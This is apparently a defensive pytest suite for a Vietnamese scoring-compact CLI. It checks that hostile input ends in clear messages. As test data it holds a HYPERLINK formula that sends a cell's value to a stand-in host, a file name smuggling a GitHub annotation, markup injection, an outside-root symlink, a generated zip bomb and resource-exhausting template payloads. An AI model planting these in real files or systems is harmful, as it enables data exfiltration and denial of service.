"""Hostile input and faults: every case ends with a Vietnamese message and the right exit code, nothing leaks.

A unit is not always friendly, and documents built from its data go to the provincial council: everything a
unit sends back and everything in the data tree is untrusted (docs/an-toan.md).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import edit
from giaouoc.cli.app import app

runner = CliRunner()
YEAR = "compacts/2023"


def invoke(root: Path, *args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["--root", str(root), *args])
    return result.exit_code, result.stdout, result.stderr


def codes(root: Path) -> list[str]:
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    return sorted({p["code"] for p in json.loads(stdout)["problems"]})


def make_form(root: Path, tmp_path: Path, unit: str = "pa01") -> Path:
    path = tmp_path / f"phieu-{unit}.xlsx"
    assert invoke(root, "form", "2023", unit, "--xlsx", str(path))[0] == 0
    return path


# --- 1. formulas -----------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x.example/?d="&\'Kết quả\'!C6,"Xem minh chứng")'


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_text_that_looks_like_a_formula_stays_text_everywhere(root: Path, tmp_path: Path) -> None:
    edit(root / YEAR / "scores/pa01.yaml", "  1: {self: 8, block: 8}",
         f"  1: {{self: 8, block: 8, note: {json.dumps(FORMULA, ensure_ascii=False)}}}")
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: \"=1+2 Phòng Hồ sơ\"")
    assert invoke(root, "export", "2023", "--xlsx", str(tmp_path / "kq.xlsx"))[0] == 0
    form = make_form(root, tmp_path)
    assert "<f>" not in _sheet_xml(tmp_path / "kq.xlsx")  # no live formula in any sheet
    # the form's one formula is its own total row, never a unit's or a name's text
    assert re.findall(r"<f>(.*?)</f>", _sheet_xml(form)) == ["SUM(E6:E18)"]
    details = load_workbook(tmp_path / "kq.xlsx")["Chi tiết"]
    assert any(cell.value == FORMULA and cell.data_type == "s" for row in details.iter_rows() for cell in row)
    code, stdout, _ = invoke(root, "rank", "2023", "--format", "csv")
    assert code == 0 and ",'=1+2 Phòng Hồ sơ," in stdout  # OWASP: a leading quote


# --- 2. the hidden sheet and the visible form ---------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "value"), [("B3", "pa02"), ("B5", 0), ("B5", -5), ("B5", "abc"), ("B5", None),
                                             ("B5", 10**9), ("A6", "unit")])
def test_tampered_hidden_sheet_is_refused_and_names_the_cell(root: Path, tmp_path: Path, cell: str,
                                                             value: Any) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    workbook["giaouoc"][cell] = value
    workbook.save(form)
    before = {p.name: p.read_bytes() for p in (root / YEAR / "scores").iterdir()}
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 1 and "[form-mismatch]" in stderr and "Traceback" not in stderr
    assert before == {p.name: p.read_bytes() for p in (root / YEAR / "scores").iterdir()}


def test_every_import_message_names_the_unit_and_file(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    workbook = load_workbook(form)
    workbook["Tự chấm"]["E6"] = 7
    workbook.save(form)
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code == 0 and "«pa01»" in stderr and "compacts/2023/scores/pa01.yaml" in stderr


# --- 3. year folders -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["٢٠٢٣", "２０２３", "²", "2024-cu"])
def test_odd_year_folder_names_are_no_years(root: Path, name: str) -> None:
    (root / "compacts" / name).mkdir()
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code == 0 and "Traceback" not in stderr
    problems = json.loads(stdout)["problems"]
    assert [(p["code"], p["severity"]) for p in problems] == [("stray-file", "warning")]
    assert invoke(root, "rank", name)[0] == 2


# --- 4. every bad input a message ---------------------------------------------------------------------------------

HUGE = "1" + "0" * 30


@pytest.mark.parametrize(("file", "old", "new", "code"), [
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", f"  1: {{self: 8, block: {HUGE}}}", "invalid-number"),
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", "  1: {self: 8, block: 1e28}", "invalid-number"),
    ("scores/pa01.yaml", "  1: {self: 8, block: 8}", "  1: {self: 8, block: 1e400}", "invalid-number"),
    ("compact.yaml", "total: 100", "total: 1e400", "invalid-number"),
    ("compact.yaml", "bonus_cap: 5", f"bonus_cap: {HUGE}", "invalid-number"),
    ("compact.yaml", "min_vote_share: 0.8", "min_vote_share: 1e400", "invalid-vote-share"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\x7f\"", "control-char"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\x9b\"", "control-char"),
    ("units.yaml", "name: Phòng Hồ sơ", "name: \"Phòng Hồ sơ\\uffff\"", "control-char"),
    ("items.yaml", "    max: 12", "    max: " + "9" * 5000, "invalid-number"),
])
def test_values_that_crashed_are_messages(root: Path, file: str, old: str, new: str, code: str) -> None:
    edit(root / YEAR / file, old, new)
    assert code in codes(root)
    for args in (("rank", "2023"), ("render", "2023")):
        exit_code, _, stderr = invoke(root, *args)
        assert exit_code == 1 and "Traceback" not in stderr


@pytest.mark.skipif(os.geteuid() == 0 if hasattr(os, "geteuid") else True, reason="root reads every file")
def test_unreadable_file(root: Path) -> None:  # pragma: no cover - CI runs as root
    (root / YEAR / "units.yaml").chmod(0)
    assert "unreadable" in codes(root)


@pytest.mark.parametrize("make", ["dangling", "loop", "folder-yaml", "folder-md", "fifo"])
def test_odd_files_in_the_data_tree(root: Path, make: str) -> None:
    scores = root / YEAR / "scores"
    if make == "dangling":
        (scores / "pa10.yaml").symlink_to(root / "khong-co.yaml")
    elif make == "loop":
        (scores / "pa10.yaml").symlink_to(scores / "pa11.yaml")
        (scores / "pa11.yaml").symlink_to(scores / "pa10.yaml")
    elif make == "folder-yaml":
        (scores / "x.yaml").mkdir()
    elif make == "folder-md":
        (root / YEAR / "text" / "x.md").mkdir()
    else:
        os.mkfifo(scores / "pa10.yaml")
    code, stdout, stderr = invoke(root, "validate", "--format", "json")
    assert code in (0, 1) and "Traceback" not in stderr
    assert json.loads(stdout)["problems"] or make == "folder-md"


def test_import_when_the_year_holds_a_fifo_and_a_link_up(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    os.mkfifo(root / YEAR / "text" / "fifo")
    (root / YEAR / "text" / "up").symlink_to("..")
    code, _, stderr = invoke(root, "import", "2023", str(form), "--dry-run")
    assert code in (0, 1) and "Traceback" not in stderr and "nội bộ" not in stderr


def test_utf32_is_named(root: Path) -> None:
    (root / YEAR / "units.yaml").write_bytes("units: []\n".encode("utf-32"))
    code, stdout, _ = invoke(root, "validate", "--format", "json")
    messages = [p["message"] for p in json.loads(stdout)["problems"] if p["code"] == "encoding"]
    assert messages and "UTF-32" in messages[0]


def test_oversized_data_file(root: Path) -> None:
    path = root / YEAR / "scores/pa01.yaml"
    path.write_bytes(b"# " + b"x" * (21 * 1024 * 1024) + b"\nunit: pa01\n")
    assert "file-too-large" in codes(root)


# --- 5. annotations -------------------------------------------------------------------------------------------------


def test_github_annotations_cannot_be_injected(root: Path) -> None:
    bad = root / YEAR / "scores" / "x\n::error file=README.md,line=1::hacked.txt"
    bad.write_text("x", encoding="utf-8")
    code, stdout, _ = invoke(root, "validate", "--format", "github")
    assert all(line.startswith("::") for line in stdout.splitlines())
    assert "::error file=README.md" not in stdout and "%0A%3A%3Aerror file=README.md%2Cline=1%3A%3A" in stdout


# --- 6. concurrent imports ----------------------------------------------------------------------------------------


def test_two_imports_of_one_unit_at_once_lose_nothing(root: Path, tmp_path: Path) -> None:
    forms = []
    for item, cell, other in ((1, "E6", "E7"), (2, "E7", "E6")):
        (tmp_path / str(item)).mkdir()
        form = make_form(root, tmp_path / str(item))
        workbook = load_workbook(form)
        workbook["Tự chấm"][cell] = 3
        workbook["Tự chấm"][other] = None  # a cleared cell leaves the score as it is
        workbook.save(form)
        forms.append(form)
    results: list[int] = []

    def run(form: Path) -> None:
        process = subprocess.run([sys.executable, "-m", "giaouoc", "--root", str(root), "import", "2023", str(form)],
                                 capture_output=True, text=True)
        results.append(process.returncode)

    threads = [threading.Thread(target=run, args=(f,)) for f in forms]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    text = (root / YEAR / "scores/pa01.yaml").read_text(encoding="utf-8")
    assert results == [0, 0]
    assert "  1: {self: 3" in text and "  2: {self: 3" in text


# --- 7. a "|" in a name --------------------------------------------------------------------------------------------


def test_pipe_in_a_name_keeps_every_table_column(root: Path) -> None:
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", "name: Phòng Hồ sơ | Lưu trữ")
    assert codes(root) == []
    code, _, stderr = invoke(root, "render", "2023", "--docx")
    assert code == 0, stderr
    from docx import Document

    table = next(t for t in Document(str(root / "out/2023/bang-diem.docx")).tables if t.cell(0, 0).text == "TT")
    row = next(r for r in table.rows if "Lưu trữ" in r.cells[1].text)
    assert row.cells[1].text == "PV06 - Phòng Hồ sơ | Lưu trữ" and len(row.cells) == 21
    assert row.cells[2].text == "7"


def test_markup_in_names_stays_text_in_word(root: Path) -> None:
    """The Word files are written as XML text: a name that looks like markup is escaped, never obeyed."""
    from xml.etree import ElementTree

    from docx import Document

    hostile = 'Phòng Hồ sơ <w:p/> & "Lưu" ]]> </w:t>'
    edit(root / YEAR / "units.yaml", "name: Phòng Hồ sơ", f"name: '{hostile}'")
    edit(root / YEAR / "compact.yaml", "name: Khối thi đua An ninh nhân dân", "name: Khối thi đua An ninh & <nhân dân>")
    edit(root / YEAR / "compact.yaml", "[KHỐI THI ĐUA, AN NINH NHÂN DÂN]", "[KHỐI THI ĐUA, AN NINH & <NHÂN DÂN>]")
    code, _, stderr = invoke(root, "render", "2023", "--docx")
    assert code == 0, stderr
    for doc in ("giao-uoc", "bang-diem", "bien-ban", "to-trinh"):
        with zipfile.ZipFile(root / f"out/2023/{doc}.docx") as archive:
            for name in archive.namelist():
                if name.endswith((".xml", ".rels")):
                    ElementTree.fromstring(archive.read(name))  # every part is well-formed XML
        document = Document(str(root / f"out/2023/{doc}.docx"))
        texts = [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows
                                                         for c in r.cells]
        assert any(hostile in text for text in texts), doc
    assert Document(str(root / "out/2023/to-trinh.docx")).core_properties.author == "KHỐI THI ĐUA AN NINH & <NHÂN DÂN>"


# --- 8. resources ----------------------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_before_it_is_opened(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    bomb = tmp_path / "bom.xlsx"
    with zipfile.ZipFile(form) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        target.writestr("xl/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    assert bomb.stat().st_size < 1024 * 1024
    code, _, stderr = invoke(root, "import", "2023", str(bomb))
    assert code == 1 and "giải nén ra" in stderr


# --- 9. links out of the data root ---------------------------------------------------------------------------------


def test_a_text_file_linked_outside_the_root_is_refused(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    secret = tmp_path_factory.mktemp("ngoai") / "mat-khau.txt"
    secret.write_text("root:x:0:0\n", encoding="utf-8")
    text = root / YEAR / "text" / "giao-uoc.md"
    text.unlink()
    text.symlink_to(secret)
    assert "outside-root" in codes(root)
    code, _, _ = invoke(root, "render", "2023", "--doc", "giao-uoc")
    assert code == 1 and not (root / "out/2023/giao-uoc.md").exists()


# --- 10. templates ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("body", [
    "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "{{ 'a' * 10**9 }}", "{{ '{:>999999999}'.format(1) }}", "{{ 'x'.center(10**9) }}", "{{ lipsum(n=10**6) }}",
    "{{ '%999999999d' % 1 }}", "{{ units.clear() }}", "{{ 2 ** 100000 }}",
])
def test_templates_are_bounded_and_cannot_change_the_data(root: Path, body: str) -> None:
    (root / "templates").mkdir()
    (root / "templates" / "bang-diem.md.j2").write_text(f"---\nid: bang-diem\n---\n{body}\n", encoding="utf-8")
    code, _, stderr = invoke(root, "render", "2023", "--doc", "bang-diem")
    assert code == 1 and "Traceback" not in stderr and "bang-diem.md.j2" in stderr
    code, _, stderr = invoke(root, "render", "2023", "--doc", "to-trinh")  # the default documents are untouched
    assert code == 0, stderr


# --- 11. outputs never overwrite data ---------------------------------------------------------------------------


@pytest.mark.parametrize("args", [
    ("form", "2023", "pa01", "--xlsx", "compacts/2023/scores/pa01.yaml"),
    ("export", "2023", "--xlsx", "compacts/2023/units.yaml"),
    ("render", "2023", "--out", "compacts/2023/text"),
])
def test_outputs_into_compacts_are_refused(root: Path, args: tuple[str, ...]) -> None:
    before = {p: p.read_bytes() for p in (root / "compacts").rglob("*") if p.is_file()}
    full = [a if not a.startswith("compacts/") else str(root / a) for a in args]
    code, _, stderr = invoke(root, *full)
    assert code == 2 and "compacts/" in stderr
    assert before == {p: p.read_bytes() for p in (root / "compacts").rglob("*") if p.is_file()}


def test_output_path_mistakes_are_usage_errors(root: Path, tmp_path: Path) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("x", encoding="utf-8")
    assert invoke(root, "export", "2023", "--xlsx", str(tmp_path))[0] == 2  # a folder where a file is wanted
    assert invoke(root, "render", "2023", "--out", str(a_file))[0] == 2  # a file where a folder is wanted


# --- 12. Markdown for merge requests --------------------------------------------------------------------------------


def test_diff_markdown_escapes_what_units_wrote(root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "add", "."], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@x", "commit", "-qm", "a"],
                   check=True)
    edit(root / YEAR / "scores/pa01.yaml", "  1: {self: 8, block: 8}",
         "  1: {self: 8, block: 8, note: \"# Tiêu đề ![ảnh](http://x/y.png) @cuc-truong <script>\"}")
    code, stdout, _ = invoke(root, "diff", "2023", "--format", "markdown")
    assert code == 0
    assert "\\# Tiêu đề \\!\\[ảnh\\](http\\://x/y.png) \\@cuc-truong \\<script\\>" in stdout


# --- 13. writes ------------------------------------------------------------------------------------------------------


def test_writes_keep_modes_and_refuse_links(root: Path, tmp_path: Path) -> None:
    target = tmp_path / "kq.xlsx"
    target.write_bytes(b"")
    target.chmod(0o644)
    assert invoke(root, "export", "2023", "--xlsx", str(target))[0] == 0
    assert target.stat().st_mode & 0o777 == 0o644
    link = tmp_path / "lien-ket.xlsx"
    link.symlink_to(tmp_path / "that.xlsx")
    code, _, stderr = invoke(root, "export", "2023", "--xlsx", str(link))
    assert code == 2 and "liên kết" in stderr and not (tmp_path / "that.xlsx").exists()


# --- 14. notes read back identical ---------------------------------------------------------------------------------


def test_notes_with_breaks_and_tabs_read_back_identical(root: Path, tmp_path: Path) -> None:
    form = make_form(root, tmp_path)
    note = "Dòng một\nDòng hai\tcó tab, dấu phẩy: và \"ngoặc\""
    workbook = load_workbook(form)
    workbook["Tự chấm"]["F6"] = note
    workbook.save(form)
    assert invoke(root, "import", "2023", str(form))[0] == 0
    import yaml

    data = yaml.load((root / YEAR / "scores/pa01.yaml").read_text(encoding="utf-8"), Loader=yaml.SafeLoader)
    assert data["scores"][1]["note"] == note
    assert codes(root) == []


# --- 16. interrupted runs -------------------------------------------------------------------------------------------


def test_a_stop_request_cleans_up_and_says_so(root: Path) -> None:
    import signal

    process = subprocess.Popen([sys.executable, "-c", (
        "import signal, sys, time\n"
        "from giaouoc.cli.app import main\n"
        "import giaouoc.history.check as check\n"
        "def slow(*a, **k):\n    time.sleep(30)\n"
        "check.load_block = slow\n"
        f"sys.exit(main(['--root', {str(root)!r}, 'validate']))\n")], stderr=subprocess.PIPE, text=True)
    import time

    time.sleep(1.5)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=20)
    assert process.returncode == 130 and "Đã dừng." in stderr
